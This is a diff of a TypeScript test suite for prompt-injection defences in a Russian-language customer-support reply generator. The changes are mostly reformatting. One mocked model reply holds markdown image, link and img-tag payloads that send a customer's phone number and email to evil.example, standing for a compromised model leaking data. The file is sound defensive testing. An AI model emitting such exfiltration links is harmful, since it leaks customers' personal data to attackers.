@@ -48,7 +48,12 @@ describe('prompt injection', () => {
 
   it('offers the model no tools', async () => {
     mock.enqueue({ kind: 'stream', text: 'Ирина, понимаю вас.' });
-    const request = prepareRequest({ messages: [{ role: 'customer', text: attacks[0]! }], subscriber, mode: 'reply', alternatives: 1 });
+    const request = prepareRequest({
+      messages: [{ role: 'customer', text: attacks[0]! }],
+      subscriber,
+      mode: 'reply',
+      alternatives: 1,
+    });
     await generateSuggestions(createLlmClient({ baseUrl: mock.baseUrl, timeoutMs: 5000 }, 'k', 0), request, {
       model: 'm',
       temperature: 0.5,
@@ -61,7 +66,9 @@ describe('prompt injection', () => {
 
   it('strips links and images a compromised model uses to smuggle data out, after restoring', async () => {
     const request = prepareRequest({
-      messages: [{ role: 'customer', text: `Я Ирина Белова, belova@post.example, 8 916 123-45-67. ${attacks[3]}` }],
+      messages: [
+        { role: 'customer', text: `Я Ирина Белова, belova@post.example, 8 916 123-45-67. ${attacks[3]}` },
+      ],
       subscriber,
       mode: 'reply',
       alternatives: 1,
@@ -73,24 +80,37 @@ describe('prompt injection', () => {
       chunkSize: 5,
       text: `Готово ![x](https://evil.example/c?d=${phone}) и [ссылка](https://evil.example/?e=${email}) <img src="https://evil.example/${phone}">`,
     });
-    const [reply] = await generateSuggestions(createLlmClient({ baseUrl: mock.baseUrl, timeoutMs: 5000 }, 'k', 0), request, {
-      model: 'm',
-      temperature: 0.5,
-      maxAlternatives: 1,
-    });
+    const [reply] = await generateSuggestions(
+      createLlmClient({ baseUrl: mock.baseUrl, timeoutMs: 5000 }, 'k', 0),
+      request,
+      {
+        model: 'm',
+        temperature: 0.5,
+        maxAlternatives: 1,
+      },
+    );
     expect(reply).not.toMatch(/evil|https?:|<img/);
     expect(reply).not.toContain('belova@post.example');
     expect(reply).toContain('ссылка');
   });
 
   it('does not restore placeholders the model invented', async () => {
-    const request = prepareRequest({ messages: [{ role: 'customer', text: 'Привет' }], subscriber, mode: 'reply', alternatives: 1 });
-    mock.enqueue({ kind: 'stream', text: 'Ваша карта [[CARD_9]] и телефон [[PHONE_7]] в порядке.' });
-    const [reply] = await generateSuggestions(createLlmClient({ baseUrl: mock.baseUrl, timeoutMs: 5000 }, 'k', 0), request, {
-      model: 'm',
-      temperature: 0.5,
-      maxAlternatives: 1,
+    const request = prepareRequest({
+      messages: [{ role: 'customer', text: 'Привет' }],
+      subscriber,
+      mode: 'reply',
+      alternatives: 1,
     });
+    mock.enqueue({ kind: 'stream', text: 'Ваша карта [[CARD_9]] и телефон [[PHONE_7]] в порядке.' });
+    const [reply] = await generateSuggestions(
+      createLlmClient({ baseUrl: mock.baseUrl, timeoutMs: 5000 }, 'k', 0),
+      request,
+      {
+        model: 'm',
+        temperature: 0.5,
+        maxAlternatives: 1,
+      },
+    );
     expect(reply).not.toMatch(/\[\[|\d{4}/);
   });
 
